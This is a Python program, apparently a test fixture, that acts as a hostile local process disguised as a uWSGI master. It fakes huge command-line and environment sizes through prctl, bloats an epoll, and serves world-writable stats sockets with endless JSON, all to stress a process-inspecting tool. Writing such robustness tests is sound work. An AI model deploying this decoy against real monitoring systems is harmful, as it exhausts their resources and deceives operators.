"""A program of a hostile local user that looks like a uWSGI master: it and its child have the name `uwsgi`.

Its argument is a JSON object. ids: real, effective and saved users and groups that it takes first; name: another one.
claims: bytes of command line and environment that it claims to have, by `arg` and `env` (prctl(2), PR_SET_MM_MAP);
epoll: members and copies of an epoll; documents: a directory, and how many stats sockets it serves there, each with a
document that does not end.
"""

import ctypes
import json
import mmap
import os
import resource
import select
import socket
import sys
import threading
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
PR_SET_NAME, PR_SET_MM, PR_SET_MM_MAP = 15, 35, 14
FIELDS = (26, 27, 45, 46, 47, None, 28, 48, 49, 50, 51)  # of struct prctl_mm_map, as numbered in proc_pid_stat(5)
BREAK, ARGUMENTS, ENVIRONMENT = 5, 7, 9
MAP_NORESERVE = 0x4000


def claim(place: int, size: int) -> None:
    """Says that the command line or the environment is `size` bytes of untouched memory."""
    stat = Path("/proc/self/stat").read_text().rpartition(")")[2].split()
    values = [int(stat[field - 3]) if field else 0 for field in FIELDS]
    LIBC.sbrk.restype = ctypes.c_void_p
    values[BREAK] = LIBC.sbrk(0)
    if size:
        LIBC.mmap.restype = ctypes.c_void_p
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
        values[place] = LIBC.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ, flags, -1, 0)
    values[place + 1] = values[place] + size
    claimed = (ctypes.c_uint64 * 13)(*values, 0, 0xFFFFFFFF << 32)  # no auxiliary vector, and no other program
    if LIBC.prctl(PR_SET_MM, PR_SET_MM_MAP, ctypes.byref(claimed), ctypes.sizeof(claimed), 0):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def serve(directory: str, number: int) -> select.epoll:
    epoll = select.epoll()
    begin = b'{"version":"' + b"x" * 5_900_000

    def answer(listener: socket.socket) -> None:
        connections = []
        while True:
            connections.append(listener.accept()[0])
            connections[-1].sendall(begin)

    for place in range(number):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(f"{directory}/{place}")
        os.chmod(f"{directory}/{place}", 0o666)
        listener.listen()
        epoll.register(listener.fileno())
        threading.Thread(target=answer, args=(listener,), daemon=True).start()
    return epoll


def main(
    ids: tuple[tuple[int, int, int], tuple[int, int, int]] | None = None,
    name: str = "uwsgi",
    claims: dict[str, int] | None = None,
    epoll: tuple[int, int] = (0, 0),
    documents: tuple[str, int] = ("", 0),
) -> None:
    if ids:
        os.setgroups([])
        os.setresgid(*ids[1])
        os.setresuid(*ids[0])
    LIBC.prctl(PR_SET_NAME, name.encode(), 0, 0, 0)
    here, there = os.pipe()
    if os.fork() == 0:
        os.close(there)
        os.read(here, 1)  # ends with its parent
        os._exit(0)
    os.close(here)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    members, copies = epoll
    large = select.epoll()
    for _ in range(members):
        large.register(os.dup(there), 0)
    kept = [os.dup(large.fileno()) for _ in range(copies)], serve(*documents)
    for what, size in (claims or {}).items():
        claim(ARGUMENTS if what == "arg" else ENVIRONMENT, size)
    print(os.getpid(), flush=True)
    sys.stdin.read()
    del kept


if __name__ == "__main__":
    main(**json.loads(sys.argv[1]))
